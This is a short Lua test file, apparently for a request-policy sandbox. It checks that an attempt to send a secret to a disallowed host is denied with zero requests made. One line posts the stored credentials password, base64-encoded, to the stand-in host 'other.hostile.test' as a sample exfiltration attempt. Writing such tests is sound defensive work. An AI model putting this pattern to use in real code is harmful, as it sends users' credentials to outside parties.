-- A secret in JSON to such a host.
-- expect: policy.secret_denied
-- within: 400 ms
-- hosts: { 'other.hostile.test', secrets = false },
-- requests: 0
local s = ...
pcall(s.post, s, "https://other.hostile.test/echo", { json = { p = s.credentials.password:base64() } })
return s:get("/ok")
